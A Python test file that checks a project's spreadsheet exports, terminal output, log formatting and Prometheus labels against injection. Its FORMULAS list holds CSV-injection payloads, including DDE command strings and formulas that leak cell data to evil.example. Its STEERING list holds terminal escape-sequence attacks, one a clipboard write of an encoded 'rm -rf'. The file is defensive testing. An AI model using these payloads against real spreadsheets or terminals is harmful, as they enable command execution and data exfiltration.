"""Text of devices and strangers where another program would act on it: spreadsheets, terminals, logs, Prometheus."""

from __future__ import annotations

import csv
import io
import logging
import os
import pty
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import httpx
import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.api.fakes import ORDER, World

from headrace.api import ApiSettings, create_app
from headrace.api.metrics import Family, _text
from headrace.cli.import_cells import values
from headrace.cli.serve import OneLine
from headrace.model.batch import ValueKind
from headrace.model.text import guarded, shown, shown_json, unguarded
from headrace.registry.sheet_bytes import read_rows, write_csv, write_xlsx

FORMULAS = [
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", '=HYPERLINK("http://evil.example?x="&A1,"ok")', "＝1+1", "'=1", "''x",
    '=IMPORTXML(CONCAT("http://evil.example?", A1), "//a")', "=1\r\n=2",
]  # fmt: skip
STEERING = [
    "\x1b[2J", "\x1b]0;owned\x07", "\x1b]52;c;cm0gLXJm\x07", "\x9b31m", "\x1b]8;;http://evil.example\x07ok\x1b]8;;\x07",
    "a\rb", "a\x08b", "\x00", "\u202egnp.exe", "\u2066x\u2069", "\x1bP+q\x1b\\", "\x7f", "ok\n✗ forged line",
]  # fmt: skip
_STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")

formula = pytest.mark.clause("62443-3-3 SR 3.5", "GB/T 22239-2019 8.1.4.2")


# --- spreadsheets -----------------------------------------------------------------------------------------------------


def runs(cell: str) -> bool:
    return cell[:1] in set("=+-@\t\r\n＝＋－＠") and bool(cell)


@formula
async def test_no_exported_text_runs_in_a_spreadsheet_and_all_of_it_comes_back(world: World) -> None:
    await world.store.append([world.batch(ORDER, FORMULAS)])
    transport = httpx.ASGITransport(create_app(world.services, ApiSettings()))
    headers = {"Authorization": "Bearer token-viewer"}
    async with httpx.AsyncClient(transport=transport, base_url="http://localhost", headers=headers) as client:
        params = {"path": ORDER, "format": "csv", "start": "0"}
        text = (await client.get("/api/v1/history/export", params=params)).text
    cells = [row["value"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert len(cells) == len(FORMULAS) and not any(map(runs, cells))
    again, _ = values(ValueKind.TEXT, cells, True, lambda _row, _why: None)
    assert list(again) == FORMULAS


@formula
@pytest.mark.parametrize("text", FORMULAS)
def test_no_sheet_of_points_has_a_formula(text: str) -> None:
    import openpyxl

    records = [{"path": "acme/p", "title": text}]
    raw = write_csv(["path", "title"], records, True)
    assert not any(runs(cell) for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")) for cell in row)
    _, rows = read_rows(raw, "points.csv")
    assert list(rows)[1][1][1] == text
    if "\r" in text or "\n" in text or "\t" in text:
        return  # XML has its own view of these
    book = openpyxl.load_workbook(io.BytesIO(write_xlsx(["path", "title"], records)))
    cell = book.worksheets[0]["B2"]
    assert (cell.data_type, cell.value) == ("s", text)


@formula
@given(st.text())
def test_what_is_guarded_runs_nothing_and_reads_back(text: str) -> None:
    assert not runs(guarded(text)) and unguarded(guarded(text)) == text


# --- terminals and logs -----------------------------------------------------------------------------------------------

terminal = pytest.mark.clause("62443-3-3 SR 3.5", "62443-3-3 SR 6.1")


@terminal
@given(st.text())
def test_nothing_shown_steers_a_terminal(text: str) -> None:
    assert not _STEERS.search(shown(text)) and "\n" not in shown(text)
    assert not _STEERS.search(shown(text, lines=True))
    document = orjson.dumps({text: text}).decode()
    assert not _STEERS.search(shown_json(document)) and orjson.loads(shown_json(document)) == {text: text}


def on_a_terminal(code: str) -> str:
    """What a program writes to a terminal that it believes to be real."""
    leader, follower = pty.openpty()
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(filter(None, sys.path)), "TERM": "xterm-256color"}
    with subprocess.Popen([sys.executable, "-c", code], stdout=follower, stderr=follower, env=environment) as process:
        os.close(follower)
        heard = b""
        while True:
            try:
                piece = os.read(leader, 65_536)
            except OSError:
                break
            if not piece:
                break
            heard += piece
        process.wait(30)
    os.close(leader)
    return heard.decode("utf-8", "replace")


@terminal
def test_the_command_writes_nothing_of_a_devices_to_the_terminal_as_it_came() -> None:
    code = (
        "from headrace.cli.output import *\n"
        "from headrace.cli.live import _print_value\n"
        "from headrace.model.errors import DataError, ConfigError, ConfigErrors\n"
        f"for one in {STEERING!r}:\n"
        "    print_table(['name'], [[one], ['[red]' + one]])\n"
        "    print_json({'name': one})\n"
        "    note(one); complain(DataError(one)); complain(ConfigErrors([ConfigError(one)]))\n"
        "    _print_value({'path': 'acme/p', 'unit': '1'}, one, 0.0, 0, False)\n"
    )
    heard = on_a_terminal(code)
    own = re.compile("\x1b\\[[0-9;]*m")  # colours of our own; none of the hostile ones is such
    assert "Traceback" not in heard, heard
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", own.sub("", heard))
    assert "[red]" in heard, "what stands in brackets is text"


@pytest.mark.clause("62443-3-3 SR 6.1", "62443-3-3 SR 3.9", "GB/T 22239-2019 8.1.4.3")
@pytest.mark.parametrize("text", STEERING)
def test_a_log_line_is_one_line(text: str) -> None:
    formatter = OneLine("%(levelname)s %(name)s: %(message)s")
    for arguments, message in (((text,), "device %s"), ((), text)):
        line = formatter.format(logging.LogRecord("x", logging.INFO, "f", 1, message, arguments, None))
        assert not _STEERS.search(line) and "\n" not in line
    try:
        raise ValueError(text)
    except ValueError:
        record = logging.LogRecord("x", logging.ERROR, "f", 1, "fault", (), sys.exc_info())
    assert not _STEERS.search(formatter.format(record))


# --- Prometheus -------------------------------------------------------------------------------------------------------


@formula
@given(st.text())
def test_no_label_leaves_its_quotes(text: str) -> None:
    lines = _text(Family("x", "gauge", "h", [({"name": text}, 1.0)])).split("\n")
    assert len(lines) == 4 and lines[3] == ""
    inside = re.fullmatch(r'x\{name="((?:[^"\\\n]|\\["\\n])*)"\} 1', lines[2])
    assert inside is not None
    meaning: Callable[[re.Match[str]], str] = lambda found: {"n": "\n"}.get(found[1], found[1])  # noqa: E731
    assert re.sub(r'\\(["\\n])', meaning, inside[1]) == text


def test_these_are_not_only_strings_of_ours(tmp_path: Path) -> None:
    """The terminal used here does act on what the tests send: else nothing was shown."""
    assert any(_STEERS.search(one) for one in STEERING) and all(map(runs, FORMULAS[:8]))
